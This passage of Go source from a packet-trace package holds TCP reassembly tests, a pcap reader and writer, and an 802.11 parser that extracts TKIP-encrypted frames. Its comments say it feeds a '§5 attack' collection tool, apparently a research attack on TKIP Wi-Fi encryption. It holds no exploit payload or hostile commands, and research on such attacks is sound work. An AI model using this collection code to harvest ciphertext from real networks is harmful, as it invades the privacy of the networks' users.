	var out []byte
	deliver := func(_ FlowKey, data []byte) error {
		out = append(out, data...)
		return nil
	}
	for {
		pkt, err := r.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		seg, err := ParseTCPPacket(pkt.LinkType, pkt.Data)
		if err != nil {
			t.Fatal(err)
		}
		if err := as.Push(seg, deliver); err != nil {
			t.Fatal(err)
		}
	}
	if err := as.Flush(deliver); err != nil {
		t.Fatal(err)
	}
	return out
}

func TestStreamWriterReassembleRoundTrip(t *testing.T) {
	stream := make([]byte, 10000)
	rand.New(rand.NewSource(1)).Read(stream)
	for _, link := range []uint32{LinkTypeEthernet, LinkTypeRawIP} {
		got := reassemble(t, writeStreamPackets(t, link, 1460, stream))
		if !bytes.Equal(got, stream) {
			t.Fatalf("link %d: reassembled stream differs", link)
		}
	}
}

// TestAssemblerOutOfOrderAndOverlap shuffles segments and injects
// duplicates plus partial overlaps; the delivered stream must still be
// exactly the original bytes.
func TestAssemblerOutOfOrderAndOverlap(t *testing.T) {
	stream := make([]byte, 4096)
	rng := rand.New(rand.NewSource(7))
	rng.Read(stream)

	// Build segments by hand: 256-byte slices, plus overlapping extras.
	type segdef struct{ start, end int }
	var defs []segdef
	for off := 0; off < len(stream); off += 256 {
		defs = append(defs, segdef{off, off + 256})
	}
	defs = append(defs,
		segdef{128, 512},   // overlaps two delivered segments
		segdef{1000, 1300}, // straddles segment boundaries
		segdef{0, 256},     // pure duplicate
	)
	rng.Shuffle(len(defs), func(i, j int) { defs[i], defs[j] = defs[j], defs[i] })

	const isn = 5
	var as Assembler
	var out []byte
	deliver := func(_ FlowKey, data []byte) error {
		out = append(out, data...)
		return nil
	}
	for _, d := range defs {
		err := as.Push(Segment{
			Key:     testFlow,
			Seq:     uint32(isn + d.start),
			Payload: stream[d.start:d.end],
		}, deliver)
		if err != nil {
			t.Fatal(err)
		}
	}
	// No SYN in this capture: the flow buffers until Flush commits it to
	// the lowest sequence seen, which recovers the entire stream
	// regardless of arrival order.
	if err := as.Flush(deliver); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(out, stream) {
		t.Fatalf("reassembled %d bytes: stream differs", len(out))
	}
	if as.Duplicates == 0 {
		t.Error("duplicate segments produced no accounting")
	}
}

func TestAssemblerSYNConsumesSequenceNumber(t *testing.T) {
	var as Assembler
	var out []byte
	deliver := func(_ FlowKey, data []byte) error { out = append(out, data...); return nil }
	if err := as.Push(Segment{Key: testFlow, Seq: 99, SYN: true}, deliver); err != nil {
		t.Fatal(err)
	}
	if err := as.Push(Segment{Key: testFlow, Seq: 100, Payload: []byte("hello")}, deliver); err != nil {
		t.Fatal(err)
	}
	if string(out) != "hello" {
		t.Fatalf("got %q", out)
	}
}

func TestAssemblerWindowCap(t *testing.T) {
	as := Assembler{MaxBuffered: 1024}
	deliver := func(_ FlowKey, data []byte) error { return nil }
	// Seed the flow cursor, then push far-ahead segments until the cap.
	if err := as.Push(Segment{Key: testFlow, Seq: 0, Payload: []byte("x")}, deliver); err != nil {
		t.Fatal(err)
	}
	err := as.Push(Segment{Key: testFlow, Seq: 10000, Payload: make([]byte, 2048)}, deliver)
	if !errors.Is(err, ErrReassemblyWindow) {
		t.Fatalf("got %v, want ErrReassemblyWindow", err)
	}
	// The overflow abandons only that flow: later segments for it drop
	// silently, and an independent flow keeps reassembling.
	if err := as.Push(Segment{Key: testFlow, Seq: 20000, Payload: make([]byte, 2048)}, deliver); err != nil {
		t.Fatalf("abandoned flow errored again: %v", err)
	}
	other := testFlow
	other.SrcPort++
	var got []byte
	err = as.Push(Segment{Key: other, Seq: 5, SYN: true}, deliver)
	if err != nil {
		t.Fatal(err)
	}
	err = as.Push(Segment{Key: other, Seq: 6, Payload: []byte("healthy")}, func(_ FlowKey, d []byte) error {
		got = append(got, d...)
		return nil
	})
	if err != nil || string(got) != "healthy" {
		t.Fatalf("independent flow broken after another flow's overflow: %v %q", err, got)
	}
}

// TestAssemblerSYNPayload pins TCP Fast Open handling: payload carried on
// the SYN itself starts one past the SYN's sequence number, so the stream
// stays hole-free.
func TestAssemblerSYNPayload(t *testing.T) {
	var as Assembler
	var out []byte
	deliver := func(_ FlowKey, d []byte) error { out = append(out, d...); return nil }
	if err := as.Push(Segment{Key: testFlow, Seq: 100, SYN: true, Payload: []byte("fast-open")}, deliver); err != nil {
		t.Fatal(err)
	}
	if err := as.Push(Segment{Key: testFlow, Seq: 110, Payload: []byte(" rest")}, deliver); err != nil {
		t.Fatal(err)
	}
	if string(out) != "fast-open rest" {
		t.Fatalf("TFO stream corrupted: %q", out)
	}
}

// TestAssemblerFlushDeterministicOrder pins Flush's cross-flow delivery
// order: sorted flow keys, not map iteration order — two ingests of one
// capture must deliver identical byte sequences.
func TestAssemblerFlushDeterministicOrder(t *testing.T) {
	keys := []FlowKey{
		{SrcIP: [4]byte{10, 0, 0, 3}, SrcPort: 1},
		{SrcIP: [4]byte{10, 0, 0, 1}, SrcPort: 9},
		{SrcIP: [4]byte{10, 0, 0, 1}, SrcPort: 2},
		{SrcIP: [4]byte{10, 0, 0, 2}, SrcPort: 5},
	}
	want := []FlowKey{keys[2], keys[1], keys[3], keys[0]}
	for trial := 0; trial < 8; trial++ {
		var as Assembler
		for _, k := range keys {
			// No SYN: the flows stay unsynced until Flush.
			if err := as.Push(Segment{Key: k, Seq: 50, Payload: []byte("data")}, nil); err != nil {
				t.Fatal(err)
			}
		}
		var order []FlowKey
		err := as.Flush(func(k FlowKey, _ []byte) error {
			order = append(order, k)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		if len(order) != len(want) {
			t.Fatalf("flushed %d flows, want %d", len(order), len(want))
		}
		for i := range want {
			if order[i] != want[i] {
				t.Fatalf("trial %d: flush order %v, want %v", trial, order, want)
			}
		}
	}
}

func TestParseTCPPacketClassification(t *testing.T) {
	// Non-IP ethertype (ARP).
	arp := make([]byte, 60)
	arp[12], arp[13] = 0x08, 0x06
	if _, err := ParseTCPPacket(LinkTypeEthernet, arp); !errors.Is(err, ErrNotTCP) {
		t.Errorf("ARP: got %v, want ErrNotTCP", err)
	}
	// UDP over raw IP.
	udp := packet.IPv4{TTL: 64, Protocol: 17, Length: 28}.Marshal()
	if _, err := ParseTCPPacket(LinkTypeRawIP, append(udp[:], make([]byte, 8)...)); !errors.Is(err, ErrNotTCP) {
		t.Errorf("UDP: got %v, want ErrNotTCP", err)
	}
	// Truncated Ethernet header.
	if _, err := ParseTCPPacket(LinkTypeEthernet, make([]byte, 8)); !errors.Is(err, packet.ErrTruncated) {
		t.Errorf("short ethernet: got %v, want packet.ErrTruncated", err)
	}
	// Unsupported link type is a hard, typed error.
	var lte *LinkTypeError
	if _, err := ParseTCPPacket(LinkTypeRadiotap, make([]byte, 64)); !errors.As(err, &lte) {
		t.Errorf("radiotap to TCP path: got %v, want LinkTypeError", err)
	}
	// IP total length beyond the captured bytes must not over-read.
	long := packet.IPv4{TTL: 64, Protocol: 6, Length: 4000}.Marshal()
	pkt := append(long[:], make([]byte, 40)...)
	if _, err := ParseTCPPacket(LinkTypeRawIP, pkt); !errors.Is(err, packet.ErrHeaderLength) {
		t.Errorf("overlong IP length: got %v, want packet.ErrHeaderLength", err)
	}
}

// TestEthernetPaddingTrimmed pins that trailing Ethernet padding (minimum
// frame size) never leaks into the reassembled stream: the IP total length
// bounds the payload.
func TestEthernetPaddingTrimmed(t *testing.T) {
	payload := []byte("tiny")
	ip := packet.IPv4{TTL: 64, Protocol: 6, SrcIP: testFlow.SrcIP, DstIP: testFlow.DstIP,
		Length: uint16(packet.IPv4Size + packet.TCPSize + len(payload))}
	tcp := packet.TCP{SrcPort: testFlow.SrcPort, DstPort: testFlow.DstPort, Seq: 1, Flags: 0x18}
	ipHdr := ip.Marshal()
	tcpHdr := tcp.Marshal(ip.SrcIP, ip.DstIP, payload)
	frame := make([]byte, 0, 64)
	frame = append(frame, make([]byte, 12)...)
	frame = append(frame, 0x08, 0x00)
	frame = append(frame, ipHdr[:]...)
	frame = append(frame, tcpHdr[:]...)
	frame = append(frame, payload...)
	for len(frame) < 60 { // Ethernet pads to 60 before FCS
		frame = append(frame, 0)
	}
	seg, err := ParseTCPPacket(LinkTypeEthernet, frame)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(seg.Payload, payload) {
		t.Fatalf("padding leaked into payload: %q", seg.Payload)
	}
}
