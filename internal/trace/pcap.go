package trace

import (
	"encoding/binary"
	"io"
)

// Classic pcap (libpcap savefile) magic numbers, read big-endian from the
// first four file bytes. The "swapped" variants mean the file was written
// on a machine of the opposite endianness; the nsec variants carry
// nanosecond rather than microsecond timestamp fractions.
const (
	pcapMagicUsec        = 0xa1b2c3d4
	pcapMagicUsecSwapped = 0xd4c3b2a1
	pcapMagicNsec        = 0xa1b23c4d
	pcapMagicNsecSwapped = 0x4d3cb2a1
)

const (
	pcapFileHeaderLen   = 24
	pcapRecordHeaderLen = 16
)

// pcapReader streams a classic pcap file: a 24-byte global header (magic,
// version, snaplen, one link type for the whole file) followed by 16-byte
// per-record headers and packet bytes.
type pcapReader struct {
	r        io.Reader
	order    binary.ByteOrder
	nsFactor uint64 // 1000 for usec captures, 1 for nsec
	linkType uint32
	hdr      [pcapRecordHeaderLen]byte
	buf      []byte
}

func newPcapReader(r io.Reader) (*Reader, error) {
	var hdr [pcapFileHeaderLen]byte
	if err := readFull(r, hdr[:]); err != nil {
		return nil, err
	}
	p := &pcapReader{r: r, nsFactor: 1000}
	switch binary.BigEndian.Uint32(hdr[:4]) {
	case pcapMagicUsec:
		p.order = binary.BigEndian
	case pcapMagicNsec:
		p.order = binary.BigEndian
		p.nsFactor = 1
	case pcapMagicUsecSwapped:
		p.order = binary.LittleEndian
	case pcapMagicNsecSwapped:
		p.order = binary.LittleEndian
		p.nsFactor = 1
	default:
		return nil, ErrFormat
	}
	p.linkType = p.order.Uint32(hdr[20:24])
	return &Reader{next: p.next}, nil
}

func (p *pcapReader) next() (Packet, error) {
	if _, err := io.ReadFull(p.r, p.hdr[:]); err != nil {
		if err == io.EOF {
			return Packet{}, io.EOF // clean end: no record started
		}
		if err == io.ErrUnexpectedEOF {
			return Packet{}, ErrTruncatedCapture
		}
		return Packet{}, err
	}
	sec := uint64(p.order.Uint32(p.hdr[0:4]))
	frac := uint64(p.order.Uint32(p.hdr[4:8]))
	inclLen := p.order.Uint32(p.hdr[8:12])
	if inclLen > maxPacketLen {
		return Packet{}, ErrCorrupt
	}
	if cap(p.buf) < int(inclLen) {
		p.buf = make([]byte, inclLen)
	}
	p.buf = p.buf[:inclLen]
	if err := readFull(p.r, p.buf); err != nil {
		return Packet{}, err
	}
	return Packet{
		LinkType: p.linkType,
		TS:       sec*1e9 + frac*p.nsFactor,
		Data:     p.buf,
	}, nil
}

// PcapWriter writes a classic pcap file (little-endian, microsecond
// timestamps, snaplen 262144). Timestamps are synthetic and deterministic:
// each packet is stamped one microsecond after the previous, so the bytes
// a given stream produces are identical across runs.
type PcapWriter struct {
	w  io.Writer
	ts uint64 // microseconds
}

// NewPcapWriter writes the global header for the given link type and
// returns the writer.
func NewPcapWriter(w io.Writer, linkType uint32) (*PcapWriter, error) {
	var hdr [pcapFileHeaderLen]byte
	binary.LittleEndian.PutUint32(hdr[0:4], pcapMagicUsec)
	binary.LittleEndian.PutUint16(hdr[4:6], 2) // major version
	binary.LittleEndian.PutUint16(hdr[6:8], 4) // minor version
	// thiszone and sigfigs stay zero.
	binary.LittleEndian.PutUint32(hdr[16:20], 262144) // snaplen
	binary.LittleEndian.PutUint32(hdr[20:24], linkType)
	if _, err := w.Write(hdr[:]); err != nil {
		return nil, err
	}
	return &PcapWriter{w: w}, nil
}

// WritePacket appends one packet record.
func (pw *PcapWriter) WritePacket(data []byte) error {
	var hdr [pcapRecordHeaderLen]byte
	binary.LittleEndian.PutUint32(hdr[0:4], uint32(pw.ts/1e6))
	binary.LittleEndian.PutUint32(hdr[4:8], uint32(pw.ts%1e6))
	binary.LittleEndian.PutUint32(hdr[8:12], uint32(len(data)))
	binary.LittleEndian.PutUint32(hdr[12:16], uint32(len(data)))
	pw.ts++
	if _, err := pw.w.Write(hdr[:]); err != nil {
		return err
	}
	_, err := pw.w.Write(data)
	return err
}
