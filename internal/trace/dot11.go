package trace

import (
	"encoding/binary"
	"errors"
)

// This file parses monitor-mode 802.11 captures down to TKIP-encrypted
// MPDUs — the §5.4 collection tool's frame path — and writes the same
// shape back out, so netsim's simulated victims can produce captures that
// ingest bitwise-identically to their in-process streams.

// Frame-level classification errors. The soft ones (ErrNotDataFrame,
// ErrNotProtected, ErrNotTKIP) describe frames any real monitor-mode
// capture is full of — beacons, ACKs, cleartext, CCMP traffic — which
// collectors count and skip; ErrShortFrame marks a frame that ends before
// its own headers do, which collectors count as malformed.
var (
	ErrShortFrame   = errors.New("trace: 802.11 frame shorter than its headers")
	ErrNotDataFrame = errors.New("trace: not an 802.11 data frame carrying a body")
	ErrNotProtected = errors.New("trace: 802.11 frame is not protected (cleartext)")
	ErrNotTKIP      = errors.New("trace: protected frame does not carry a TKIP ExtIV header")
)

// MPDU is one TKIP-encrypted 802.11 data MPDU, parsed far enough for the
// §5 attack: the cleartext TSC from the IV/ExtIV header, the retry and
// fragmentation state the sniffer filters on, and the RC4-encrypted body
// (MSDU ‖ MIC ‖ ICV). Body aliases the packet buffer it was parsed from.
type MPDU struct {
	// TSC is the 48-bit TKIP sequence counter from the IV/ExtIV header.
	TSC uint64
	// Retry reports the MAC-level retransmission bit: a retry carries the
	// same TSC as its original, so TSC de-duplication drops it regardless.
	Retry bool
	// FragNum and MoreFrag describe 802.11 fragmentation. A fragmented
	// MSDU's trailer spans MPDUs, so the attack cannot consume fragments
	// as whole-packet evidence; collectors count and skip them.
	FragNum  int
	MoreFrag bool
	// SeqNum is the 12-bit 802.11 sequence number.
	SeqNum int
	// Addr1, Addr2, Addr3 are the MAC header addresses (receiver,
	// transmitter, and the DS-dependent third address).
	Addr1, Addr2, Addr3 [6]byte
	// Body is the encrypted frame body after the 8-byte TKIP IV header.
	Body []byte
}

// SplitRadiotap validates a radiotap pseudo-header and returns the 802.11
// frame after it, plus whether the radiotap flags field says the frame
// ends in an FCS trailer. Only the first two radiotap fields (TSFT, flags)
// are decoded — everything else is skipped via the header's length field.
func SplitRadiotap(b []byte) (frame []byte, fcsAtEnd bool, err error) {
	if len(b) < 8 {
		return nil, false, ErrShortFrame
	}
	if b[0] != 0 { // radiotap version is always 0
		return nil, false, ErrCorrupt
	}
	hlen := int(binary.LittleEndian.Uint16(b[2:4]))
	if hlen < 8 || hlen > len(b) {
		return nil, false, ErrShortFrame
	}
	// Walk the chained presence words.
	off := 4
	var first uint32
	for i := 0; ; i++ {
		if off+4 > hlen {
			return nil, false, ErrCorrupt
		}
		w := binary.LittleEndian.Uint32(b[off : off+4])
		if i == 0 {
			first = w
		}
		off += 4
		if w&(1<<31) == 0 {
			break
		}
		if i >= 32 { // a real presence chain is a handful of words
			return nil, false, ErrCorrupt
		}
	}
	// Decode just TSFT (bit 0, u64 aligned to 8) and flags (bit 1, u8) to
	// learn whether the FCS trails the frame; field offsets are relative
	// to the start of the radiotap header.
	if first&1 != 0 {
		off = (off + 7) &^ 7
		off += 8
	}
	if first&2 != 0 {
		if off < hlen {
			fcsAtEnd = b[off]&0x10 != 0
		}
	}
	return b[hlen:], fcsAtEnd, nil
}

// ParseMPDU parses one 802.11 frame (no radiotap) into a TKIP MPDU. It
// handles Data and QoS-Data subtypes, all four ToDS/FromDS combinations
// (including the 4-address WDS header), HT control, and the TKIP IV/ExtIV
// header; fcsAtEnd strips a trailing FCS first. Frames that are not
// TKIP-encrypted data are rejected with the soft classification errors
// above; frames shorter than their own headers yield ErrShortFrame.
func ParseMPDU(b []byte, fcsAtEnd bool) (MPDU, error) {
	if fcsAtEnd {
		if len(b) < 4 {
			return MPDU{}, ErrShortFrame
		}
		b = b[:len(b)-4]
	}
	if len(b) < 24 {
		return MPDU{}, ErrShortFrame
	}
	fc := binary.LittleEndian.Uint16(b[0:2])
	if fc&0x3 != 0 { // protocol version must be 0
		return MPDU{}, ErrNotDataFrame
	}
	if (fc>>2)&0x3 != 2 { // management and control frames carry no MSDU
		return MPDU{}, ErrNotDataFrame
	}
	subtype := (fc >> 4) & 0xF
	if subtype&0x4 != 0 { // null-data variants have no body
		return MPDU{}, ErrNotDataFrame
	}
	hdr := 24
	toDS, fromDS := fc&0x0100 != 0, fc&0x0200 != 0
	if toDS && fromDS {
		hdr += 6 // addr4 (WDS)
	}
	if subtype&0x8 != 0 { // QoS Data
		hdr += 2
		if fc&0x8000 != 0 { // order bit on a QoS frame: +HT control
			hdr += 4
		}
	}
	if len(b) < hdr {
		return MPDU{}, ErrShortFrame
	}
	if fc&0x4000 == 0 {
		return MPDU{}, ErrNotProtected
	}
	iv := b[hdr:]
	if len(iv) < 8 {
		return MPDU{}, ErrShortFrame
	}
	// TKIP discriminators: ExtIV must be set, and the WEP seed byte must
	// follow the mandated (TSC1 | 0x20) & 0x7f structure — CCMP's PN
	// layout fails the second check.
	if iv[3]&0x20 == 0 || iv[1] != (iv[0]|0x20)&0x7f {
		return MPDU{}, ErrNotTKIP
	}
	seqCtl := binary.LittleEndian.Uint16(b[22:24])
	m := MPDU{
		TSC: uint64(iv[2]) | uint64(iv[0])<<8 | uint64(iv[4])<<16 |
			uint64(iv[5])<<24 | uint64(iv[6])<<32 | uint64(iv[7])<<40,
		Retry:    fc&0x0800 != 0,
		MoreFrag: fc&0x0400 != 0,
		FragNum:  int(seqCtl & 0xF),
		SeqNum:   int(seqCtl >> 4),
		Body:     iv[8:],
	}
	copy(m.Addr1[:], b[4:10])
	copy(m.Addr2[:], b[10:16])
	copy(m.Addr3[:], b[16:22])
	return m, nil
}

// FrameWriter emits TKIP MPDUs as monitor-mode packets: an optional
// minimal radiotap header, an 802.11 QoS-Data (or plain Data) header with
// FromDS addressing, the TKIP IV/ExtIV header, and the encrypted body.
// The 802.11 sequence number increments per frame, so written captures
// carry the retry/sequence structure the parser and filters handle.
type FrameWriter struct {
	w        PacketWriter
	radiotap bool
	// TA, DA, SA address the frames (transmitter/BSSID, destination,
	// source), matching the tkip.Session fields of the stream's sender.
	TA, DA, SA [6]byte
	// QoS selects the QoS-Data subtype (with a TID-0 QoS control field)
	// over plain Data.
	QoS bool
	seq uint16
	// last remembers the previous frame so WriteRetry can emit a
	// MAC-level retransmission (same TSC, same sequence, retry bit set).
	last    []byte
	hasLast bool
	scratch []byte
}

// NewFrameWriter creates a frame writer over a packet writer opened with
// linkType LinkTypeRadiotap or LinkTypeIEEE80211.
func NewFrameWriter(w PacketWriter, linkType uint32, ta, da, sa [6]byte) (*FrameWriter, error) {
	switch linkType {
	case LinkTypeRadiotap, LinkTypeIEEE80211:
	default:
		return nil, &LinkTypeError{LinkType: linkType, Want: "802.11 or radiotap"}
	}
	return &FrameWriter{
		w:        w,
		radiotap: linkType == LinkTypeRadiotap,
		TA:       ta, DA: da, SA: sa,
		QoS: true,
	}, nil
}

// minimal radiotap header: version 0, length 8, empty presence word.
var radiotapHeader = [8]byte{0, 0, 8, 0, 0, 0, 0, 0}

// WriteRetry re-emits the previous frame with the retry bit set — a
// MAC-level retransmission, byte-identical apart from that bit, which the
// TSC de-duplication on the ingest side must drop.
func (fw *FrameWriter) WriteRetry() error {
	if !fw.hasLast {
		return errors.New("trace: no frame written yet to retry")
	}
	pkt := append([]byte(nil), fw.last...)
	off := 0
	if fw.radiotap {
		off = len(radiotapHeader)
	}
	pkt[off+1] |= 0x08 // retry is bit 11 of frame control — bit 3 of its high byte
	return fw.w.WritePacket(pkt)
}

// WriteFrame emits one MPDU for the given TSC and encrypted body.
func (fw *FrameWriter) WriteFrame(tsc uint64, body []byte) error {
	hdr := 24
	if fw.QoS {
		hdr += 2
	}
	rt := 0
	if fw.radiotap {
		rt = len(radiotapHeader)
	}
	n := rt + hdr + 8 + len(body)
	if cap(fw.scratch) < n {
		fw.scratch = make([]byte, n)
	}
	pkt := fw.scratch[:n]
	if fw.radiotap {
		copy(pkt, radiotapHeader[:])
	}
	f := pkt[rt:]
	fc := uint16(0x0008 | 0x0200 | 0x4000) // data, FromDS, protected
	if fw.QoS {
		fc |= 0x0080 // QoS-Data subtype
	}
	binary.LittleEndian.PutUint16(f[0:2], fc)
	binary.LittleEndian.PutUint16(f[2:4], 44) // duration (cosmetic)
	// FromDS addressing: addr1 = destination, addr2 = transmitter/BSSID,
	// addr3 = source.
	copy(f[4:10], fw.DA[:])
	copy(f[10:16], fw.TA[:])
	copy(f[16:22], fw.SA[:])
	binary.LittleEndian.PutUint16(f[22:24], fw.seq<<4)
	fw.seq = (fw.seq + 1) & 0xFFF
	if fw.QoS {
		f[24], f[25] = 0, 0 // TID 0
	}
	iv := f[hdr:]
	iv[0] = byte(tsc >> 8)        // TSC1
	iv[1] = (iv[0] | 0x20) & 0x7f // WEP seed
	iv[2] = byte(tsc)             // TSC0
	iv[3] = 0x20                  // key ID 0, ExtIV
	iv[4] = byte(tsc >> 16)
	iv[5] = byte(tsc >> 24)
	iv[6] = byte(tsc >> 32)
	iv[7] = byte(tsc >> 40)
	copy(iv[8:], body)
	fw.last = append(fw.last[:0], pkt...)
	fw.hasLast = true
	return fw.w.WritePacket(pkt)
}
