package trace

import (
	"bytes"
	"errors"
	"io"
	"testing"
)

// collect drains a reader, copying packet payloads (Data aliases the
// reader's buffer).
func collect(t *testing.T, r *Reader) []Packet {
	t.Helper()
	var out []Packet
	for {
		p, err := r.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatalf("Next: %v", err)
		}
		p.Data = append([]byte(nil), p.Data...)
		out = append(out, p)
	}
}

func testPackets() [][]byte {
	return [][]byte{
		[]byte("alpha"),
		[]byte("beta-beta"),
		{},
		bytes.Repeat([]byte{0xAB}, 1500),
	}
}

func TestPcapRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewPcapWriter(&buf, LinkTypeRadiotap)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range testPackets() {
		if err := w.WritePacket(p); err != nil {
			t.Fatal(err)
		}
	}
	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	got := collect(t, r)
	want := testPackets()
	if len(got) != len(want) {
		t.Fatalf("got %d packets, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i].LinkType != LinkTypeRadiotap {
			t.Errorf("packet %d: link type %d", i, got[i].LinkType)
		}
		if !bytes.Equal(got[i].Data, want[i]) {
			t.Errorf("packet %d: data mismatch", i)
		}
	}
}

func TestPcapNGRoundTrip(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewPcapNGWriter(&buf, LinkTypeEthernet)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range testPackets() {
		if err := w.WritePacket(p); err != nil {
			t.Fatal(err)
		}
	}
	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	got := collect(t, r)
	want := testPackets()
	if len(got) != len(want) {
		t.Fatalf("got %d packets, want %d", len(got), len(want))
	}
	for i := range want {
		if got[i].LinkType != LinkTypeEthernet {
			t.Errorf("packet %d: link type %d", i, got[i].LinkType)
		}
		if !bytes.Equal(got[i].Data, want[i]) {
			t.Errorf("packet %d: data mismatch", i)
		}
	}
}

func TestReaderRejectsGarbage(t *testing.T) {
	if _, err := NewReader(bytes.NewReader([]byte("not a capture file"))); !errors.Is(err, ErrFormat) {
		t.Fatalf("got %v, want ErrFormat", err)
	}
	if _, err := NewReader(bytes.NewReader(nil)); !errors.Is(err, ErrTruncatedCapture) {
		t.Fatalf("empty input: got %v, want ErrTruncatedCapture", err)
	}
}

// TestTruncatedFinalPacket pins the "interrupted capture" behavior for
// both containers: every whole packet is delivered, then the cut-off
// record surfaces as ErrTruncatedCapture rather than a silent EOF.
func TestTruncatedFinalPacket(t *testing.T) {
	for _, tc := range []struct {
		name  string
		write func(w io.Writer) PacketWriter
	}{
		{"pcap", func(w io.Writer) PacketWriter {
			pw, err := NewPcapWriter(w, LinkTypeRawIP)
			if err != nil {
				t.Fatal(err)
			}
			return pw
		}},
		{"pcapng", func(w io.Writer) PacketWriter {
			pw, err := NewPcapNGWriter(w, LinkTypeRawIP)
			if err != nil {
				t.Fatal(err)
			}
			return pw
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			w := tc.write(&buf)
			if err := w.WritePacket([]byte("first packet")); err != nil {
				t.Fatal(err)
			}
			if err := w.WritePacket([]byte("second packet, soon cut off")); err != nil {
				t.Fatal(err)
			}
			cut := buf.Bytes()[:buf.Len()-5]
			r, err := NewReader(bytes.NewReader(cut))
			if err != nil {
				t.Fatal(err)
			}
			p, err := r.Next()
			if err != nil {
				t.Fatalf("first packet: %v", err)
			}
			if !bytes.Equal(p.Data, []byte("first packet")) {
				t.Fatalf("first packet corrupted: %q", p.Data)
			}
			if _, err := r.Next(); !errors.Is(err, ErrTruncatedCapture) {
				t.Fatalf("truncated packet: got %v, want ErrTruncatedCapture", err)
			}
		})
	}
}

func TestPcapCorruptLengthRejected(t *testing.T) {
	var buf bytes.Buffer
	w, err := NewPcapWriter(&buf, LinkTypeRawIP)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.WritePacket([]byte("x")); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	// incl_len lives at offset 24+8; blow it past the sanity cap.
	b[24+8], b[24+9], b[24+10], b[24+11] = 0xFF, 0xFF, 0xFF, 0x7F
	r, err := NewReader(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Next(); !errors.Is(err, ErrCorrupt) {
		t.Fatalf("got %v, want ErrCorrupt", err)
	}
}

func TestFrameWriterParseRoundTrip(t *testing.T) {
	ta := [6]byte{2, 0, 0, 0, 0, 0xAA}
	da := [6]byte{2, 0, 0, 0, 0, 0xBB}
	sa := [6]byte{2, 0, 0, 0, 0, 0xCC}
	body := []byte("encrypted-msdu-mic-icv")
	for _, link := range []uint32{LinkTypeRadiotap, LinkTypeIEEE80211} {
		var buf bytes.Buffer
		pw, err := NewPcapWriter(&buf, link)
		if err != nil {
			t.Fatal(err)
		}
		fw, err := NewFrameWriter(pw, link, ta, da, sa)
		if err != nil {
			t.Fatal(err)
		}
		const tsc = 0x0000BEEF00AB
		if err := fw.WriteFrame(tsc, body); err != nil {
			t.Fatal(err)
		}
		r, err := NewReader(bytes.NewReader(buf.Bytes()))
		if err != nil {
			t.Fatal(err)
		}
		pkt, err := r.Next()
		if err != nil {
			t.Fatal(err)
		}
		frame := pkt.Data
		if link == LinkTypeRadiotap {
			var fcs bool
			frame, fcs, err = SplitRadiotap(frame)
			if err != nil {
				t.Fatal(err)
			}
			if fcs {
				t.Fatal("minimal radiotap header claims an FCS")
			}
		}
		m, err := ParseMPDU(frame, false)
		if err != nil {
			t.Fatal(err)
		}
		if m.TSC != tsc {
			t.Errorf("TSC %#x, want %#x", m.TSC, tsc)
		}
		if m.Addr1 != da || m.Addr2 != ta || m.Addr3 != sa {
			t.Error("FromDS addressing did not round-trip")
		}
		if m.Retry || m.MoreFrag || m.FragNum != 0 {
			t.Error("clean frame parsed with retry/fragment state")
		}
		if !bytes.Equal(m.Body, body) {
			t.Errorf("body mismatch: %q", m.Body)
		}
	}
}

func TestFrameWriterRetryBit(t *testing.T) {
	var buf bytes.Buffer
	pw, err := NewPcapWriter(&buf, LinkTypeRadiotap)
	if err != nil {
		t.Fatal(err)
	}
	fw, err := NewFrameWriter(pw, LinkTypeRadiotap, [6]byte{1}, [6]byte{2}, [6]byte{3})
	if err != nil {
		t.Fatal(err)
	}
	if err := fw.WriteFrame(7, []byte("body")); err != nil {
		t.Fatal(err)
	}
	if err := fw.WriteRetry(); err != nil {
		t.Fatal(err)
	}
	r, err := NewReader(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	for i, wantRetry := range []bool{false, true} {
		pkt, err := r.Next()
		if err != nil {
			t.Fatal(err)
		}
		frame, _, err := SplitRadiotap(pkt.Data)
		if err != nil {
			t.Fatal(err)
		}
		m, err := ParseMPDU(frame, false)
		if err != nil {
			t.Fatal(err)
		}
		if m.Retry != wantRetry {
			t.Errorf("frame %d: retry=%v, want %v", i, m.Retry, wantRetry)
		}
		if m.TSC != 7 {
			t.Errorf("frame %d: TSC %d", i, m.TSC)
		}
	}
}

func TestParseMPDUClassification(t *testing.T) {
	// A beacon (management frame).
	mgmt := make([]byte, 24)
	mgmt[0] = 0x80
	if _, err := ParseMPDU(mgmt, false); !errors.Is(err, ErrNotDataFrame) {
		t.Errorf("beacon: got %v, want ErrNotDataFrame", err)
	}
	// Cleartext data.
	clear := make([]byte, 40)
	clear[0] = 0x08
	if _, err := ParseMPDU(clear, false); !errors.Is(err, ErrNotProtected) {
		t.Errorf("cleartext: got %v, want ErrNotProtected", err)
	}
	// CCMP: ExtIV set but no TKIP WEP-seed structure.
	ccmp := make([]byte, 40)
	ccmp[0], ccmp[1] = 0x08, 0x40
	ccmp[24+3] = 0x20
	ccmp[24+0], ccmp[24+1] = 0x55, 0x00 // seed byte inconsistent with TKIP
	if _, err := ParseMPDU(ccmp, false); !errors.Is(err, ErrNotTKIP) {
		t.Errorf("ccmp: got %v, want ErrNotTKIP", err)
	}
	// Truncated mid-header.
	if _, err := ParseMPDU(make([]byte, 10), false); !errors.Is(err, ErrShortFrame) {
		t.Errorf("short: got %v, want ErrShortFrame", err)
	}
}

func TestSplitRadiotapFCSFlag(t *testing.T) {
	// Radiotap header with TSFT (bit 0) and flags (bit 1) present:
